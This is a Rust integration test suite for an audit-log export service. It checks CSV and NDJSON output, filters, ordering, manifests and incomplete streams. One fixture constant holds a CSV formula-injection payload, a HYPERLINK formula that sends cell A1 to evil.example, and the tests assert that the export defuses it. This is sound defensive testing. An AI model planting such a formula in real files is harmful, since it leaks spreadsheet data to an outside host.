//! Exports against a real MongoDB-wire server: every matching event and nothing else, in time
//! order, names decrypted, CSV quoting and formula defence that survive a round trip, NDJSON that
//! parses, and a manifest whose digest and counts are those of the bytes delivered — recorded only
//! when the whole file was delivered.

use chrono::{DateTime, Duration, TimeZone, Utc};
use domain::{DeploymentId, Event, EventFilter, ObjectRef, PersonId, Product, TeamId};
use export::ExportStatus;
use export::{
    self, ExportError, ExportFormat, ExportManifest, ExportRequest, ManifestLookup, COLUMNS,
};
use futures::StreamExt;
use ingest::identity::IdentityResolver;
use pipeline::AccountRef;
use query::people::PeopleDirectory;
use sha2::{Digest, Sha256};
use std::sync::Arc;
use store::crypto::KeyRing;
use store::teams::GroupSnapshot;
use store::Store;

const ZOE: &str = "Zoë Ångström, \"Z\"";
/// A display name chosen by an attacker to run a formula in the auditor's spreadsheet.
const MALLORY: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
/// An object name with every character CSV must quote.
const TRICKY: &str = "line one\r\nline two, \"quoted\"\nend";

struct Fixture {
    store: Store,
    people: PeopleDirectory,
    zoe: PersonId,
    mallory: PersonId,
    events: Vec<Event>,
}

fn t0() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 3, 1, 0, 0, 0).unwrap()
}

fn event(n: usize, actor: Option<&PersonId>) -> Event {
    let product = if n.is_multiple_of(3) {
        Product::Confluence
    } else {
        Product::Jira
    };
    // Several events share an instant, so the id breaks ties.
    let at = t0() + Duration::seconds((n / 2) as i64 * 37);
    Event {
        ingested_at: t0() + Duration::days(30),
        actor_id: actor.cloned(),
        actor_raw: Some(format!("acc-{n}")),
        object_type: Some("project".into()),
        object_ref: Some(ObjectRef {
            id: format!("P{n}"),
            name: Some(match n % 4 {
                0 => TRICKY.to_owned(),
                1 => "-1 + 2".to_owned(),
                _ => format!("Projet n°{n}"),
            }),
            container: n.is_multiple_of(5).then(|| "@space".to_owned()),
        }),
        source_ip: n.is_multiple_of(2).then(|| "2001:db8::7".parse().unwrap()),
        raw: serde_json::json!({ "n": n, "nested": { "日本語": [1, 2, 3] } }),
        ..testkit::event("acme", product, &format!("r{n:05}"), at)
    }
}

/// 2,500 events (more than one cursor batch and many chunks), inserted in scrambled order.
async fn fixture() -> Fixture {
    let store = Store::new(testkit::fresh_database().await);
    store
        .ensure_indexes(testkit::RETAIN_FIXED_DATES_DAYS)
        .await
        .unwrap();
    let keys = Arc::new(KeyRing::new(&[9u8; 32], &[]));
    let resolver = IdentityResolver::new(store.identities.clone(), keys.clone());
    let learn = |id: &'static str, name: &'static str| {
        let resolver = resolver.clone();
        async move {
            let account = AccountRef {
                account_id: Some(id.to_owned()),
                display_name: Some(name.to_owned()),
                email: Some(format!("{id}@acme.example")),
                bitbucket_uuid: None,
            };
            resolver
                .learn(&account, Product::Org, Utc::now())
                .await
                .unwrap()
                .unwrap()
        }
    };
    let zoe = learn("acc-zoe", ZOE).await;
    let mallory = learn("acc-mallory", MALLORY).await;
    store
        .teams
        .replace_deployment(
            &DeploymentId::parse("acme").unwrap(),
            &[GroupSnapshot {
                group_id: "g-1".into(),
                name: "team-sec".into(),
                members: vec![zoe.clone()],
            }],
            Utc::now(),
        )
        .await
        .unwrap();
    let mut events: Vec<Event> = (0..2_500)
        .map(|n| {
            let actor = match n % 3 {
                0 => Some(&zoe),
                1 => Some(&mallory),
                _ => None,
            };
            event(n, actor)
        })
        .collect();
    let mut scrambled = events.clone();
    scrambled.sort_by_key(|e| {
        (e.id.as_str().len() * 7919 + e.id.as_str().bytes().map(usize::from).sum::<usize>()) % 101
    });
    for chunk in scrambled.chunks(700) {
        store.events.insert_new(chunk).await.unwrap();
    }
    events.sort_by(|a, b| (a.occurred_at, a.id.as_str()).cmp(&(b.occurred_at, b.id.as_str())));
    Fixture {
        people: PeopleDirectory::new(store.identities.clone(), keys, std::time::Duration::ZERO),
        store,
        zoe,
        mallory,
        events,
    }
}

fn everything() -> EventFilter {
    EventFilter {
        from: Some(t0()),
        to: Some(t0() + Duration::days(2)),
        ..EventFilter::default()
    }
}

fn request(format: ExportFormat, filter: EventFilter) -> ExportRequest {
    ExportRequest {
        format,
        query: "from=2026-03-01T00:00:00Z&to=2026-03-03T00:00:00Z".into(),
        filter,
        generated_by: "auditor".into(),
        generated_at: Utc::now(),
    }
}

/// Runs an export to its end: the bytes and the manifest recorded for them.
async fn run(f: &Fixture, format: ExportFormat, filter: EventFilter) -> (Vec<u8>, ExportManifest) {
    let mut export = export::start(&f.store, &f.people, request(format, filter))
        .await
        .unwrap();
    let mut bytes = Vec::new();
    while let Some(chunk) = export.stream.next().await {
        bytes.extend_from_slice(&chunk.unwrap());
    }
    match export::manifest(&f.store, export.id).await.unwrap() {
        ManifestLookup::Complete(m) => (bytes, *m),
        other => panic!("no manifest after a complete stream: {other:?}"),
    }
}

/// A strict RFC 4180 reader for the test's own checks.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut records = Vec::new();
    let mut record = Vec::new();
    let mut cell = String::new();
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',') => record.push(std::mem::take(&mut cell)),
            (false, '\r') => assert_eq!(chars.next(), Some('\n'), "CR outside quotes"),
            (false, '\n') => panic!("records end with CRLF"),
            (false, c) => cell.push(c),
        }
        if !quoted && c == '\r' {
            record.push(std::mem::take(&mut cell));
            records.push(std::mem::take(&mut record));
        }
    }
    assert!(
        cell.is_empty() && record.is_empty(),
        "the file ends with a line break"
    );
    records
}

/// Undoes the formula defence: one leading `'` is removed.
fn undefuse(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

fn ids_in_csv(records: &[Vec<String>]) -> Vec<String> {
    records[1..].iter().map(|r| r[1].clone()).collect()
}

fn ids_of(events: &[Event], keep: impl Fn(&Event) -> bool) -> Vec<String> {
    events
        .iter()
        .filter(|e| keep(e))
        .map(|e| e.id.to_string())
        .collect()
}

#[tokio::test]
async fn a_csv_export_holds_every_matching_event_in_time_order_with_names_and_a_true_manifest() {
    let f = fixture().await;
    let (bytes, manifest) = run(&f, ExportFormat::Csv, everything()).await;
    let text = String::from_utf8(bytes.clone()).unwrap();
    let records = parse_csv(&text);
    assert_eq!(records[0], COLUMNS);
    assert!(records.iter().all(|r| r.len() == COLUMNS.len()));

    // Every event, no cap, ascending by (time, id).
    assert_eq!(ids_in_csv(&records), ids_of(&f.events, |_| true));
    let times: Vec<&str> = records[1..].iter().map(|r| r[0].as_str()).collect();
    assert!(times.windows(2).all(|w| w[0] <= w[1]));
    assert_eq!(times[0], "2026-03-01T00:00:00.000Z");

    // Names decrypted; the attacker's formula is defused and still recoverable.
    let row = |id: &str| records.iter().find(|r| r[1] == id).unwrap().clone();
    let zoe_row = row("acme:confluence:r00000");
    assert_eq!(zoe_row[8], f.zoe.as_str());
    assert_eq!(zoe_row[9], ZOE);
    assert_eq!(
        zoe_row[13], TRICKY,
        "line breaks, commas and quotes survive"
    );
    assert_eq!(zoe_row[14], "'@space");
    assert_eq!(zoe_row[15], "2001:db8::7");
    let mallory_row = row("acme:jira:r00001");
    assert_eq!(mallory_row[8], f.mallory.as_str());
    assert_eq!(mallory_row[9], format!("'{MALLORY}"));
    assert_eq!(undefuse(&mallory_row[9]), MALLORY);
    assert_eq!(mallory_row[13], "'-1 + 2");
    let nobody = row("acme:jira:r00002");
    assert_eq!((nobody[8].as_str(), nobody[9].as_str()), ("", ""));
    assert_eq!(nobody[10], "acc-2");

    // The manifest states the bytes delivered.
    assert_eq!(manifest.rows, 2_500);
    assert_eq!(manifest.bytes, bytes.len() as u64);
    assert_eq!(manifest.sha256, format!("{:x}", Sha256::digest(&bytes)));
    assert_eq!(manifest.from, t0());
    assert_eq!(
        manifest.file_name,
        "atlaslens-events-20260301T000000Z-20260303T000000Z.csv"
    );
    assert_eq!(manifest.generated_by, "auditor");
    assert!(manifest.generator.starts_with("atlaslens "));
    assert_eq!(manifest.filters, everything());
    let facts = export::inspect(bytes.as_slice(), ExportFormat::Csv).unwrap();
    assert!(facts.mismatches(&manifest).is_empty(), "{facts:?}");

    // Recorded as complete, with the same counts.
    let doc = f
        .store
        .exports
        .get(export_id(&manifest))
        .await
        .unwrap()
        .unwrap();
    assert_eq!(doc.status, ExportStatus::Complete);
    assert_eq!(doc.rows, 2_500);
    assert_eq!(doc.sha256.as_deref(), Some(manifest.sha256.as_str()));

    // Unchanged data exports to the same bytes: the file carries no generation time.
    let (again, second) = run(&f, ExportFormat::Csv, everything()).await;
    assert_eq!(again, bytes);
    assert_ne!(second.export_id, manifest.export_id);
}

fn export_id(m: &ExportManifest) -> store::exports::ExportId {
    store::exports::ExportId::parse(&m.export_id).unwrap()
}

#[tokio::test]
async fn filters_are_respected_team_person_product_and_range() {
    let f = fixture().await;
    let csv_ids = |bytes: Vec<u8>| ids_in_csv(&parse_csv(&String::from_utf8(bytes).unwrap()));

    let team = EventFilter {
        team: Some(TeamId::parse("team:sec").unwrap()),
        ..everything()
    };
    let (bytes, manifest) = run(&f, ExportFormat::Csv, team).await;
    let zoes = ids_of(&f.events, |e| e.actor_id.as_ref() == Some(&f.zoe));
    assert!(!zoes.is_empty());
    assert_eq!(csv_ids(bytes), zoes);
    assert_eq!(manifest.rows, zoes.len() as u64);
    assert_eq!(manifest.team_members, Some(vec![f.zoe.clone()]));

    let person = EventFilter {
        person: Some(f.mallory.clone()),
        products: vec![Product::Jira],
        ..everything()
    };
    let (bytes, _) = run(&f, ExportFormat::Csv, person).await;
    assert_eq!(
        csv_ids(bytes),
        ids_of(&f.events, |e| e.actor_id.as_ref() == Some(&f.mallory)
            && e.product == Product::Jira)
    );

    // `from` inclusive, `to` exclusive, to the millisecond.
    let (from, to) = (t0() + Duration::seconds(370), t0() + Duration::seconds(740));
    let window = EventFilter {
        from: Some(from),
        to: Some(to),
        ..EventFilter::default()
    };
    let (bytes, manifest) = run(&f, ExportFormat::Csv, window).await;
    let expected = ids_of(&f.events, |e| e.occurred_at >= from && e.occurred_at < to);
    assert_eq!(expected.len(), 20);
    assert_eq!(csv_ids(bytes), expected);
    assert_eq!(
        manifest.file_name,
        "atlaslens-events-20260301T000610Z-20260301T001220Z.csv"
    );

    // Nothing matches: a header-only file, still with a manifest.
    let none = EventFilter {
        products: vec![Product::Bitbucket],
        ..everything()
    };
    let (bytes, manifest) = run(&f, ExportFormat::Csv, none).await;
    assert_eq!(manifest.rows, 0);
    assert_eq!(parse_csv(&String::from_utf8(bytes).unwrap()).len(), 1);
    let (bytes, manifest) = run(
        &f,
        ExportFormat::Ndjson,
        EventFilter {
            products: vec![Product::Bitbucket],
            ..everything()
        },
    )
    .await;
    assert!(bytes.is_empty());
    assert_eq!(manifest.sha256, format!("{:x}", Sha256::digest(b"")));
}

#[tokio::test]
async fn an_ndjson_export_is_one_parsable_object_per_line_with_the_raw_payload() {
    let f = fixture().await;
    let (bytes, manifest) = run(&f, ExportFormat::Ndjson, everything()).await;
    let text = String::from_utf8(bytes.clone()).unwrap();
    assert!(text.ends_with('\n'));
    let lines: Vec<serde_json::Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 2_500);
    assert_eq!(manifest.rows, 2_500);
    assert_eq!(manifest.format, ExportFormat::Ndjson);
    assert!(manifest.file_name.ends_with(".ndjson"));
    assert_eq!(manifest.sha256, format!("{:x}", Sha256::digest(&bytes)));
    let ids: Vec<String> = lines
        .iter()
        .map(|l| l["event_id"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(ids, ids_of(&f.events, |_| true));
    let first = &lines[0];
    for c in COLUMNS {
        assert!(first.get(c).is_some(), "{c}");
    }
    assert_eq!(first["person_name"], ZOE);
    assert_eq!(
        first["object_name"], TRICKY,
        "NDJSON keeps values as they are"
    );
    assert_eq!(
        first["raw"],
        serde_json::json!({ "n": 0, "nested": { "日本語": [1, 2, 3] } })
    );
    let nobody = lines
        .iter()
        .find(|l| l["event_id"] == "acme:jira:r00002")
        .unwrap();
    assert!(nobody["person_id"].is_null() && nobody["person_name"].is_null());
    assert_eq!(lines[1]["person_name"], MALLORY);
    let facts = export::inspect(bytes.as_slice(), ExportFormat::Ndjson).unwrap();
    assert!(facts.mismatches(&manifest).is_empty(), "{facts:?}");
}

#[tokio::test]
async fn a_stream_dropped_before_its_end_is_recorded_as_incomplete_without_a_manifest() {
    let f = fixture().await;
    let mut export = export::start(
        &f.store,
        &f.people,
        request(ExportFormat::Csv, everything()),
    )
    .await
    .unwrap();
    let first = export.stream.next().await.unwrap().unwrap();
    assert!(!first.is_empty());
    let id = export.id;
    assert_eq!(
        export::manifest(&f.store, id).await.unwrap(),
        ManifestLookup::NotComplete(ExportStatus::Running)
    );
    drop(export);
    let mut status = ExportStatus::Running;
    for _ in 0..100 {
        status = f.store.exports.get(id).await.unwrap().unwrap().status;
        if status != ExportStatus::Running {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    assert_eq!(status, ExportStatus::Incomplete);
    let doc = f.store.exports.get(id).await.unwrap().unwrap();
    assert!(
        doc.rows > 0 && doc.rows < 2_500,
        "rows delivered: {}",
        doc.rows
    );
    assert!(doc.manifest.is_none() && doc.sha256.is_none());
    assert_eq!(
        export::manifest(&f.store, id).await.unwrap(),
        ManifestLookup::NotComplete(ExportStatus::Incomplete)
    );
    // The listing shows it, newest first.
    let listed = f.store.exports.recent(10).await.unwrap();
    assert_eq!(listed[0].id, id);
}

#[tokio::test]
async fn an_export_needs_an_absolute_range_and_finds_where_an_open_one_starts() {
    let f = fixture().await;
    let open = EventFilter {
        to: Some(t0() + Duration::days(2)),
        ..EventFilter::default()
    };
    let refused = export::start(
        &f.store,
        &f.people,
        request(ExportFormat::Csv, open.clone()),
    )
    .await;
    assert!(matches!(refused, Err(ExportError::OpenRange)));
    assert!(f.store.exports.recent(10).await.unwrap().is_empty());

    assert_eq!(
        export::earliest_match(&f.store, &open).await.unwrap(),
        Some(t0())
    );
    let mallory = EventFilter {
        person: Some(f.mallory.clone()),
        ..open.clone()
    };
    assert_eq!(
        export::earliest_match(&f.store, &mallory).await.unwrap(),
        Some(t0() + Duration::seconds(0)),
        "event 1 shares the first instant"
    );
    let nothing = EventFilter {
        products: vec![Product::Bitbucket],
        ..open
    };
    assert_eq!(
        export::earliest_match(&f.store, &nothing).await.unwrap(),
        None
    );
}
